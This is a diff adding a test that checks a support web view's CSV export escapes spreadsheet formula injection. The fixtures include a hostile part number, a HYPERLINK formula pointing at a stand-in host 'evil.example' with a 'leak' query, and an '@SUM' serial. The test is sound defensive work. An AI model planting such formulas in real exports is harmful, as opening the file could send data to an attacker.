@@ -166,6 +166,29 @@ describeEachDialect('support web view', (dialect) => {
     expect(new Set(rows.slice(1).map((row) => row.split(',')[1]))).toEqual(new Set(sessionIds));
   });
 
+  it('escapes bench data a spreadsheet would run as a formula in the CSV export (OWASP CSV injection)', async () => {
+    const formulas = openTestBench(tempDir());
+    try {
+      await formulas.outbox.enrol(server.url, await newEnrolmentCode(server.url));
+      const sessionId = 'ses-20261122-formula00001';
+      const partNumber = '=HYPERLINK("http://evil.example/?leak","Open")';
+      const serial = '@SUM(1+1)';
+      formulas.log.append('session.started', { sessionId, partNumber, serial });
+      formulas.log.append('session.completed', { sessionId, verdict: 'pass', reason: null, partNumber, serial, pack: { family: 'denso-like-g3', version: '1.0.0', sha256: 'x' } });
+      formulas.log.checkpoint();
+      await formulas.outbox.drain({ maxDurationMs: 20_000 });
+      const csv = await get(`/support/export?format=csv&bench=${formulas.identity.benchId}`, await signIn());
+      expect(csv.status).toBe(200);
+      const rows = csv.body.trim().split('\r\n');
+      expect(rows).toHaveLength(3);
+      // bench_id,session_id,serial,part_number,…: each formula-like cell starts with a single quote.
+      expect(rows[1]).toContain(`,${sessionId},'@SUM(1+1),"'=HYPERLINK(""http://evil.example/?leak"",""Open"")",`);
+      expect(csv.body).not.toMatch(/(^|,)[=@]/m);
+    } finally {
+      formulas.close();
+    }
+  });
+
   it("escapes a hostile bench's markup everywhere it is shown", async () => {
     const cookie = await signIn();
     const list = await get('/support/sessions', cookie);
